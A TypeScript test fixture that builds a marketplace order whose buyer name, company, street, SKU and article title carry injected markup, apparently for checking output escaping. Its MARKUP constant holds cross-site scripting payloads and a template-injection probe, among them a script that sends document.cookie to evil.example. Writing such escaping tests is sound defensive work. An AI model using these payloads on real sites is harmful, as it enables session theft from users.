import { personal, type Reading } from '../../lib/model/order';

const eur = (amount: string) => ({ amount, currency: 'EUR' });
export const MARKUP = {
  name: '<img src=x onerror=alert(1)>',
  company: '"><svg/onload=alert(2)>',
  street: 'javascript:alert(3)//',
  sku: '<b>SKU</b>',
  title: '<iframe src="//evil.example"></iframe> & Tasse {{7*7}}',
  error: '</script><script>fetch("//evil.example/"+document.cookie)</script>',
} as const;

/** A marketplace order whose buyer and articles carry markup in every field that a person can fill in. */
export function reading(key: string, id: string): Reading {
  const zero = {
    accepted: 1,
    refused: 0,
    cancelRequested: 0,
    cancelled: 0,
    refundedUnshipped: 0,
    shipped: 0,
    delivered: 0,
    returnAdvised: 0,
    returnReceived: 0,
    restocked: 0,
    scrapped: 0,
    refunded: 0,
    invoiced: 0,
    credited: 0,
  };
  return {
    kind: 'order',
    order: {
      key,
      account: key.split(':').slice(0, 3).join(':'),
      sourceOrderId: id,
      channel: { platform: 'mirakl', marketplace: 'maison.mirakl.net', shopId: '2001', label: 'Maison Verte' },
      refs: [],
      orderedAt: '2026-09-01T08:00:00Z',
      sourceUpdatedAt: '2026-09-01T08:20:00Z',
      currency: 'EUR',
      taxMode: 'inclusive',
      paymentGate: 'before_ship',
      test: false,
      deadlines: { shipBy: '2026-09-03T08:00:00Z' },
      parties: personal({
        shipTo: {
          name: MARKUP.name,
          company: MARKUP.company,
          lines: [MARKUP.street],
          city: 'Lyon',
          postalCode: '69003',
          country: 'FR',
          phone: '+33199001234',
          email: 'k4x9.relay@notification.mirakl.net',
        },
      }),
      shipping: { code: 'STD', label: 'Standard' },
      lines: [
        {
          id: `${id}-1`,
          fulfilledBy: 'merchant',
          sku: { source: 'CUP-RED' },
          title: 'Cup, red, 0.3 l',
          quantity: 2,
          unitPrice: eur('9.90'),
          price: eur('19.80'),
          discounts: [],
          taxes: [],
        },
        {
          id: `${id}-2`,
          fulfilledBy: 'merchant',
          sku: { source: MARKUP.sku },
          title: MARKUP.title,
          quantity: 1,
          unitPrice: eur('12.00'),
          price: eur('12.00'),
          discounts: [],
          taxes: [],
        },
      ],
      charges: [],
      totals: { goods: eur('31.80'), shipping: eur('4.90'), tax: eur('6.12'), grand: eur('36.70') },
    },
    stage: 'ready_to_ship',
    acceptance: 'accepted',
    payment: 'captured',
    quantities: { [`${id}-1`]: { ordered: 2, ...zero }, [`${id}-2`]: { ordered: 1, ...zero } },
    lineStates: { [`${id}-1`]: 'accepted', [`${id}-2`]: 'accepted' },
    refunds: [],
    cancellations: [],
    incident: false,
    unknown: [],
    differences: [],
  };
}
